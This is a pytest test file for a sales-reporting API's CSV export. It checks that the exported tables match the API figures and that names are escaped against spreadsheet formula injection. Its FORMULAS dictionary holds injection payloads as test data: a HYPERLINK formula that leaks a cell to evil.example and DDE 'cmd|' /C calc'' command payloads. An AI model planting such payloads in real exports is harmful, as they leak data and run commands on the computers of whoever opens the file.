"""export.csv gives one table with exactly the API's figures."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.locations.models import Location
from app.reports import metrics as m
from app.sales.models import CatalogCategory, CatalogItem, TeamMember
from tests.reports.conftest import Synced

REPORTS = "/api/v1/reports"
WEEK = {"date_from": "2026-10-24", "date_to": "2026-10-28"}


def api(client: TestClient, synced: Synced, path: str, **params: Any) -> dict[str, Any]:
    response = client.get(f"{REPORTS}/{path}", params=params, headers=synced.owner.headers)
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def as_csv(value: Any) -> str:
    return "" if value is None else str(value)


def get_csv(client: TestClient, synced: Synced, **params: Any) -> tuple[list[list[str]], str]:
    response = client.get(f"{REPORTS}/export.csv", params=params, headers=synced.owner.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    name = response.headers["content-disposition"].split('filename="', 1)[1].rstrip('"')
    return list(csv.reader(io.StringIO(response.text))), name


@pytest.mark.parametrize(
    "by",
    ["location", "group", "item", "category", "team_member", "payment_method", "hour", "weekday"],
)
def test_the_csv_of_a_breakdown_equals_the_breakdown(
    client: TestClient, synced: Synced, by: str
) -> None:
    rows, name = get_csv(client, synced, by=by, currency="EUR", **WEEK)
    assert name == f"Teliporter_Scenario_2026-10-24_2026-10-28_EUR_{by}.csv"
    body = api(client, synced, "breakdown", by=by, currency="EUR", **WEEK)
    names = list(body["rows"][0]["metrics"])
    assert rows[0] == ["key", "label", *names]
    got = {row[0]: row for row in rows[1:-1]}
    assert len(got) == len(body["rows"])
    for row in body["rows"]:
        values = [as_csv(row["metrics"][n]) for n in names]
        assert got[row["key"]] == [row["key"], row["label"], *values]
    assert rows[-1] == ["total", "Total", *(as_csv(body["total"]["metrics"][n]) for n in names)]


def test_the_csv_of_the_summary_and_of_the_days(client: TestClient, synced: Synced) -> None:
    rows, _ = get_csv(client, synced, by="summary", compare="previous_year", **WEEK)
    summary = api(client, synced, "summary", compare="previous_year", **WEEK)
    assert rows[0] == ["metric", "period", "comparison", "change"]
    assert rows[1:] == [
        [
            name,
            as_csv(summary["metrics"][name]),
            as_csv(summary["comparison"]["metrics"][name]),
            as_csv(summary["change"][name]),
        ]
        for name in m.METRIC_NAMES
    ]

    rows, _ = get_csv(client, synced, by="day", compare="none", **WEEK)
    series = api(client, synced, "timeseries", granularity="day", compare="none", **WEEK)
    assert rows[0] == ["date", *m.METRIC_NAMES]
    assert rows[1:] == [
        [p["start"], *(as_csv(p["metrics"][n]) for n in m.METRIC_NAMES)] for p in series["points"]
    ]


def test_an_unknown_table_is_a_422_naming_by(client: TestClient, synced: Synced) -> None:
    response = client.get(
        f"{REPORTS}/export.csv", params={"by": "weather", **WEEK}, headers=synced.owner.headers
    )
    assert response.status_code == 422
    assert [d["field"] for d in response.json()["detail"]] == ["by"]


FORMULAS = {  # a name from Square starting with each character a spreadsheet reads as a formula
    "London": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "New York": "+1+cmd|' /C calc'!A0",
    "Latte": "-2+3+cmd|' /C calc'!A0",
    "Flat White": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Hot Drinks": "\t=1+1",
    "Luca Okafor": "\r=1+1",
}


def test_names_that_look_like_formulas_are_text_and_refunds_stay_numbers(
    client: TestClient, db: Session, synced: Synced
) -> None:
    named: list[Location | CatalogItem | CatalogCategory | TeamMember] = [
        synced.london,
        synced.new_york,
    ]
    named += db.scalars(select(CatalogItem).where(CatalogItem.org_id == synced.org_id))
    named += db.scalars(select(CatalogCategory).where(CatalogCategory.org_id == synced.org_id))
    named += db.scalars(select(TeamMember).where(TeamMember.org_id == synced.org_id))
    for row in named:  # as the sync stores the names Square sends
        row.name = FORMULAS.get(row.name, row.name)
    db.commit()

    labels: set[str] = set()
    for by in ("summary", "day", "location", "item", "category", "team_member", "hour"):
        rows, _ = get_csv(client, synced, by=by, compare="previous_year", **WEEK)
        cells = [cell for row in rows for cell in row]
        labels.update(row[1] for row in rows[1:] if by not in ("summary", "day"))
        for cell in cells:
            if cell and cell[0] in "=+-@\t\r":  # only a number (a refund's -12.00) may
                assert cell[1:].replace(".", "", 1).isdigit(), f"{by}: {cell!r}"
        if by in ("day", "team_member"):
            assert any(cell.startswith("-") and Decimal(cell) < 0 for cell in cells)
    assert {"'" + name for name in FORMULAS.values()} <= labels
